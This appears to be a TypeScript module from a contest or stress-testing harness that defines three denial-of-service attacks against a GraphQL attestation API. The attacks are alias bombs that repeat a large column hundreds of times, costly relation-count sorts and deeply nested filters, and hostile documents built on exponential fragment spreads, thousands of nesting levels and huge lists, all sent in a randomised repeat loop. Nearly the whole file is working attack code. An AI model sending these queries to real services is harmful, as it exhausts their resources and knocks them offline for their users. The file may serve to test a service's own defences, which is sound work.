import { type Attack, type ContestTarget, findSource, repeat, send } from './attack.ts';

const ask = (target: ContestTarget, query: string) =>
  send(target, target.scanUrl, {
    from: findSource(target.random),
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ query }),
  });

const many = (count: number, write: (nth: number) => string) =>
  Array.from({ length: count }, (_, nth) => write(nth)).join(' ');

/** One long column many times, in one list, in nested ones, or in several roots. */
const aliasBombs: Attack = {
  name: 'alias bombs',
  run: (target) =>
    repeat(target, 4, async () => {
      const { random } = target;
      const column = random.pick(['data', 'decodedDataJson']);
      const aliases = random.between(100, 980);
      const take = random.between(50, 1_000);
      const shape = random.pick(['list', 'nested', 'roots']);
      if (shape === 'list')
        return ask(
          target,
          `{ attestations(take: ${take}) { ${many(aliases, (nth) => `a${nth}: ${column}`)} } }`,
        );
      if (shape === 'nested')
        return ask(
          target,
          `{ schemata(take: 10) { attestations(take: 100) { ${many(aliases - 5, (nth) => `a${nth}: ${column}`)} } } }`,
        );
      const roots = random.between(20, 190);
      return ask(
        target,
        `{ ${many(roots, (nth) => `r${nth}: attestations(take: 250) { ${many(4, (each) => `a${each}: ${column}`)} }`)} }`,
      );
    }),
};

/** Sorts and filters that count all rows for every row. */
const relationOrders: Attack = {
  name: 'relation ordering',
  run: (target) =>
    repeat(target, 8, async () => {
      const { random } = target;
      const order = random.pick([
        'orderBy: { schema: { attestations: { _count: desc } } }',
        'orderBy: [{ schema: { attestations: { _count: asc } } }, { schema: { creator: desc } }]',
        'where: { schema: { is: { attestations: { some: { schema: { is: { attestations: { some: { data: { contains: "a" } } } } } } } } } }',
        'where: { schema: { is: { attestations: { none: { decodedDataJson: { contains: "zzz" } } } } } }',
        'where: { data: { contains: "ffffffffffff" }, NOT: { decodedDataJson: { contains: "e", mode: insensitive } } }',
      ]);
      const aliases = random.between(1, 4);
      return ask(target, `{ ${many(aliases, (nth) => `r${nth}: attestations(take: 1, ${order}) { id }`)} }`);
    }),
};

/** Documents that cost more to validate than to send. */
const hostileDocuments: Attack = {
  name: 'hostile documents',
  run: (target) =>
    repeat(target, 8, async () => {
      const { random } = target;
      const depth = random.between(20, 4_000);
      return ask(
        target,
        random.pick([
          () => '{ schemata { attestations { schema '.repeat(depth),
          () => `{ ${many(depth, (nth) => `f${nth}: __typename`)} }`,
          () =>
            `{ ...f0 } ${many(90, (nth) => `fragment f${nth} on Query { ...f${nth + 1} ...f${nth + 1} }`)} fragment f90 on Query { __typename }`,
          () => `{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }`,
          () =>
            `{ attestations(where: { ${'AND: { '.repeat(depth)}id: { equals: "0x" }${' }'.repeat(depth)} }) { id } }`,
          () => `{ attestations(where: { id: { in: [${'"0x00",'.repeat(depth * 5)}] } }) { id } }`,
        ])(),
      );
    }),
};

export const scanAttacks: readonly Attack[] = [aliasBombs, relationOrders, hostileDocuments];
